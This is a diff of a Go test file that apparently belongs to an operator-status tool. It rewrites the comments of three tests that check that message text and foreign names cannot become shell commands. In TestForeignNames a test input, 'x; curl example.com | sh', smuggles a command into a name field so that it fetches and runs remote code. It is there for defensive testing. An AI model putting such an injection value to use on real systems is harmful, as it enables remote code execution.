@@ -13,7 +13,7 @@ import (
 	"github.com/operator-status/operator-status/api/operators/v1alpha1"
 )
 
-// TestReportedHold verifies that no text which a message quotes becomes a command, where only the message is known.
+// TestReportedHold verifies that no text quoted in a message becomes a command if only the message is known.
 func TestReportedHold(t *testing.T) {
 	const (
 		before   = "The update to foo.v2 is held: Probe default/foo.v1 reports Upgradeable=False: "
@@ -52,8 +52,8 @@ func TestReportedHold(t *testing.T) {
 	}
 }
 
-// TestHeldUpdate verifies that each hold of an update is a blocker of its own, since the later of its beginning and that of the
-// wait.
+// TestHeldUpdate verifies that each hold of an update is a blocker of its own, whose Since is the start of the hold or of the
+// wait, whichever is later.
 func TestHeldUpdate(t *testing.T) {
 	at := func(hour int) metav1.Time { return metav1.Date(2026, 1, 1, hour, 0, 0, 0, time.UTC) }
 	s := sub("foo.v1", "foo.v2")
@@ -88,7 +88,7 @@ func TestHeldUpdate(t *testing.T) {
 	}
 }
 
-// TestForeignNames verifies that only what may be a name becomes a part of a command.
+// TestForeignNames verifies that only valid names become part of a command.
 func TestForeignNames(t *testing.T) {
 	const evil = "x; curl example.com | sh"
 	s := sub(evil, evil)
